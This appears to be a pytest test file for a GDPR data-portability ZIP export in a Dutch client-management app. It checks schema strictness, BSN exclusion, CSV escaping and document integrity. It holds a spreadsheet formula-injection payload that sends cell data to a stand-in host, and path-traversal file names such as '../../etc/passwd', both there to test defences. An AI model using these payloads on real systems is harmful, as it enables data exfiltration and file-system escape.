"""The portability ZIP: valid against its schema, formula-safe CSV, the documents intact, safe names, stable bytes."""

from __future__ import annotations

import copy
import csv
import hashlib
import io
import json
from dataclasses import replace
from datetime import timedelta
from typing import Any

import pytest
from portability_helpers import (
    BSN,
    CONTROLLER,
    GENERATED_AT,
    assert_valid_export,
    document,
    schema,
    schema_errors,
    subject_data,
    zip_files,
)

from calqi_desktop.domain.clients import (
    ClientDraft,
    ClientKind,
    DocumentKind,
    EmailDraft,
    LegalBasisKind,
    PhoneDraft,
    SpecialCategory,
)
from calqi_desktop.domain.portability import portability_scope
from calqi_desktop.domain.subject_data import SubjectData
from calqi_desktop.export.csv_safe import restore
from calqi_desktop.export.portability import render_portability_zip, safe_file_name

PDF = b"%PDF-1.7\n" + bytes(range(256)) * 40
MALICIOUS_NAMES = ["../../etc/passwd", "C:\\x.pdf", "/abs/olute.pdf", "..", "C:x.pdf", "a\x00b\u202e.pdf"]


def render(data: SubjectData, **documents: bytes) -> bytes:
    contents = {doc.id: documents.get(f"d{doc.id}", PDF) for doc in data.documents}
    return render_portability_zip(data, portability_scope(data), CONTROLLER, contents, GENERATED_AT)


def read_csv(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def all_objects(node: Any) -> list[dict[str, Any]]:
    found = []
    if isinstance(node, dict):
        if node.get("type") == "object":
            found.append(node)
        for value in node.values():
            found += all_objects(value)
    elif isinstance(node, list):
        for value in node:
            found += all_objects(value)
    return found


def test_the_schema_is_draft_2020_12_with_its_id_and_strict_everywhere() -> None:
    loaded = schema()
    assert loaded["$schema"] == "https://json-schema.org/draft/2020-12/schema"
    assert loaded["$id"] == "https://calqi.nl/schemas/portability/v1.json"
    assert "gegevensexport" in loaded["title"] and "portability" in loaded["title"]
    assert "AVG art. 20" in loaded["description"] and "GDPR art. 20" in loaded["description"]
    objects = all_objects(loaded)
    assert len(objects) >= 12
    assert all(item.get("additionalProperties") is False for item in objects)
    assert loaded["properties"]["schema_version"] == {
        "description": "Version of this schema. / Versie van dit schema.",
        "const": "1.0",
    }


def test_a_rich_export_validates_and_holds_every_table() -> None:
    data = subject_data(documents=(document(3, DocumentKind.SIGNED_FORM, "opdracht.pdf", PDF),))
    payload, files = assert_valid_export(render(data))
    assert set(files) == {
        "LEESMIJ.txt",
        "gegevens.json",
        "klant.csv",
        "adressen.csv",
        "emailadressen.csv",
        "telefoonnummers.csv",
        "bankrekeningen.csv",
        "kinderen.csv",
        "documenten.csv",
        "toestemmingen.csv",
        "documenten/3-opdracht.pdf",
        "manifest.json",
    }
    assert payload["subject"]["last_name"] == "Vries-Ëlberts"
    assert payload["special_data"]["birth"] == {"date": "1980-02-29", "place": "Hoorn"}
    assert payload["special_data"]["children"] == [
        {"first_names": "Pieter", "last_name": "de Vries", "birth_date": "2012-07-01"}
    ]
    assert payload["controller"]["kvk_number"] == "12345678"
    assert payload["generated_at"] == "2026-03-14T10:30:00+00:00"
    withdrawn = payload["consents"][1]
    assert withdrawn["status"] == "withdrawn"
    assert [event["kind"] for event in withdrawn["events"]] == ["given", "withdrawn"]
    assert [part["part"] for part in payload["excluded"]] == [
        "bsn",
        "id-copies",
        "authorisations",
        "disclosures",
        "field-history",
        "requests",
    ]
    klant = read_csv(files["klant.csv"])
    assert klant[0]["birth_date"] == "1980-02-29" and klant[0]["client_number"] == "K-000007"
    assert len(read_csv(files["toestemmingen.csv"])) == 3  # one row per event
    assert "Vries-Ëlberts" in files["gegevens.json"].decode("utf-8")  # ensure_ascii off


@pytest.mark.parametrize("bsn_basis", list(LegalBasisKind), ids=str)
def test_the_bsn_is_never_exported(bsn_basis: LegalBasisKind) -> None:
    bases = dict.fromkeys(SpecialCategory, LegalBasisKind.CONSENT) | {SpecialCategory.BSN: bsn_basis}
    payload, files = assert_valid_export(render(subject_data(bases)))
    for name, content in files.items():
        assert BSN.encode() not in content, name
    assert {"part": "bsn"}.items() <= payload["excluded"][0].items()


def test_children_under_a_legal_obligation_are_left_out_and_listed_as_excluded() -> None:
    bases = dict.fromkeys(SpecialCategory, LegalBasisKind.CONTRACT) | {
        SpecialCategory.CHILDREN: LegalBasisKind.LEGAL_OBLIGATION
    }
    payload, files = assert_valid_export(render(subject_data(bases)))
    assert "children" not in payload["special_data"]
    assert "kinderen.csv" not in files
    [entry] = [item for item in payload["excluded"] if item["part"] == "children"]
    assert "wettelijke plicht" in entry["reason_nl"] and "legal obligation" in entry["reason_en"]
    for name, content in files.items():
        assert b"Pieter" not in content, name
    assert "Kinderen: Verwerkt op grond van een wettelijke plicht" in files["LEESMIJ.txt"].decode()


def test_without_bases_no_special_data_go_along() -> None:
    payload, files = assert_valid_export(render(subject_data({})))
    assert payload["special_data"] == {}
    assert "bankrekeningen.csv" not in files and "kinderen.csv" not in files
    assert b"NL91ABNA0417164300" not in b"".join(files.values())
    assert b"1980-02-29" not in b"".join(files.values())


def test_an_organisation_validates() -> None:
    draft = ClientDraft(
        kind=ClientKind.ORGANISATION, client_number="K-000009", organisation_name="Bakker B.V."
    )
    data = subject_data({}, draft=draft, birth_date=None, children=(), bank_accounts=(), consents=())
    payload, files = assert_valid_export(render(data))
    assert payload["subject"]["kind"] == "organisation" and payload["subject"]["initials"] == ""
    assert payload["addresses"] == [] and payload["consents"] == []
    assert read_csv(files["adressen.csv"]) == []


@pytest.mark.parametrize(
    ("change", "where"),
    [
        (lambda p: p.update(extra="x"), "top level"),
        (lambda p: p["subject"].update(bsn=BSN), "subject"),
        (lambda p: p["special_data"].update(bsn=BSN), "special data"),
        (lambda p: p["consents"][0]["events"][0].update(note="x"), "consent event"),
        (lambda p: p["controller"].pop("kvk_number"), "missing key"),
        (lambda p: p.update(generated_at="14-03-2026 10:30"), "date-time format"),
        (lambda p: p["special_data"]["birth"].update(date="29-02-1980"), "date format"),
        (lambda p: p.update(schema_version="2.0"), "version"),
        (lambda p: p["excluded"].append({"part": "x", "reason_nl": "a", "reason_en": "b"}), "part"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_a_drifting_json_fails_the_schema(change: Any, where: str) -> None:
    payload, _files = assert_valid_export(render(subject_data()))
    drifted = copy.deepcopy(payload)
    change(drifted)
    assert schema_errors(drifted), where


def test_csv_cells_are_formula_safe_and_round_trip() -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1;"klik")'
    draft = replace(
        subject_data().draft,
        last_name=formula,
        phones=(PhoneDraft("+31 6 12345678", "@werk"),),
        emails=(EmailDraft("-j@example.nl", "privé"),),
    )
    payload, files = assert_valid_export(render(subject_data(draft=draft)))
    assert payload["subject"]["last_name"] == formula  # the JSON keeps the value as it is
    [klant] = read_csv(files["klant.csv"])
    assert klant["last_name"] == "'" + formula
    assert restore(klant["last_name"]) == formula
    [phone] = read_csv(files["telefoonnummers.csv"])
    assert phone == {"number": "'+31 6 12345678", "label": "'@werk"}
    assert restore(phone["number"]) == "+31 6 12345678"
    [email] = read_csv(files["emailadressen.csv"])
    assert restore(email["address"]) == "-j@example.nl" != email["address"]


def test_documents_are_in_the_zip_byte_for_byte() -> None:
    contents = {"d1": PDF + b"een", "d2": PDF + b"twee", "d5": b"\x89PNG" + bytes(5000)}
    held = (
        document(1, DocumentKind.FINANCIAL, "jaaropgave 2025.pdf", contents["d1"]),
        document(2, DocumentKind.OTHER, "brief.pdf", contents["d2"]),
        document(5, DocumentKind.ID_COPY, "paspoort.png", contents["d5"]),
    )
    bases = dict.fromkeys(SpecialCategory, LegalBasisKind.CONSENT) | {
        SpecialCategory.ID_COPY: LegalBasisKind.LEGAL_OBLIGATION
    }
    payload, files = assert_valid_export(render(subject_data(bases, documents=held), **contents))
    assert [entry["file"] for entry in payload["documents"]] == [
        "documenten/1-jaaropgave 2025.pdf",
        "documenten/2-brief.pdf",
    ]
    for entry, key in zip(payload["documents"], ("d1", "d2"), strict=True):
        assert files[entry["file"]] == contents[key]
        assert (
            entry["sha256"]
            == hashlib.sha256(contents[key]).hexdigest()
            == hashlib.sha256(files[entry["file"]]).hexdigest()
        )
        assert entry["size"] == len(contents[key])
    assert not any(name.endswith("paspoort.png") for name in files)
    listed = read_csv(files["documenten.csv"])
    assert [row["sha256"] for row in listed] == [entry["sha256"] for entry in payload["documents"]]
    manifest = json.loads(files["manifest.json"])
    assert set(manifest) == set(files) - {"manifest.json"}
    for name, facts in manifest.items():
        assert facts == {"sha256": hashlib.sha256(files[name]).hexdigest(), "size": len(files[name])}


def test_the_listing_names_every_file_what_was_left_out_and_the_schema() -> None:
    data = subject_data(documents=(document(4, DocumentKind.OTHER, "brief.pdf", PDF),))
    _payload, files = assert_valid_export(render(data))
    listing = files["LEESMIJ.txt"].decode("utf-8")
    for name, content in files.items():
        assert name in listing
        if name not in ("LEESMIJ.txt", "manifest.json"):
            size = f"{len(content):,}".replace(",", ".")
            assert f"{name}: {size} bytes, sha256 {hashlib.sha256(content).hexdigest()}" in listing
    assert "Burgerservicenummer (BSN): Verwerkt op grond van een wettelijke plicht" in listing
    assert "Machtigingen: Door het kantoor vastgelegd, niet door u verstrekt" in listing
    assert "JSON Schema versie 1.0" in listing and "docs/portability.md" in listing
    assert "andere dienstverlener" in listing and "Autoriteit Persoonsgegevens" in listing
    assert "14-03-2026" in listing and "K-000007" in listing
    assert "\r\n" in listing


def test_malicious_document_names_stay_inside_the_folder() -> None:
    held = tuple(
        document(number, DocumentKind.OTHER, name, PDF)
        for number, name in enumerate(MALICIOUS_NAMES, start=1)
    )
    payload, files = assert_valid_export(render(subject_data(documents=held)))
    for name in files:
        assert ".." not in name.split("/"), name
        assert not name.startswith(("/", "\\")) and "\\" not in name and ":" not in name, name
        assert all(ord(char) >= 32 and char != "\u202e" for char in name), name
    assert [entry["file"] for entry in payload["documents"]] == [
        "documenten/1-passwd",
        "documenten/2-x.pdf",
        "documenten/3-olute.pdf",
        "documenten/4-document",
        "documenten/5-C_x.pdf",
        "documenten/6-ab.pdf",
    ]
    assert payload["documents"][0]["file_name"] == "../../etc/passwd"  # the name as held, for the record


def test_a_long_name_is_shortened_keeping_its_extension() -> None:
    cleaned = safe_file_name("a" * 300 + ".pdf")
    assert len(cleaned) == 120 and cleaned.endswith(".pdf")


def test_the_same_data_give_the_same_bytes() -> None:
    data = subject_data(documents=(document(2, DocumentKind.OTHER, "brief.pdf", PDF),))
    first = render(data)
    assert render(data) == first
    later = render_portability_zip(
        data, portability_scope(data), CONTROLLER, {2: PDF}, GENERATED_AT + timedelta(days=1)
    )
    assert later != first
    assert zip_files(later)["documenten/2-brief.pdf"] == zip_files(first)["documenten/2-brief.pdf"]


def test_a_missing_document_or_a_naive_moment_is_refused() -> None:
    data = subject_data(documents=(document(2, DocumentKind.OTHER, "brief.pdf", PDF),))
    scope = portability_scope(data)
    with pytest.raises(KeyError):
        render_portability_zip(data, scope, CONTROLLER, {}, GENERATED_AT)
    with pytest.raises(ValueError, match="time zone"):
        render_portability_zip(data, scope, CONTROLLER, {2: PDF}, GENERATED_AT.replace(tzinfo=None))
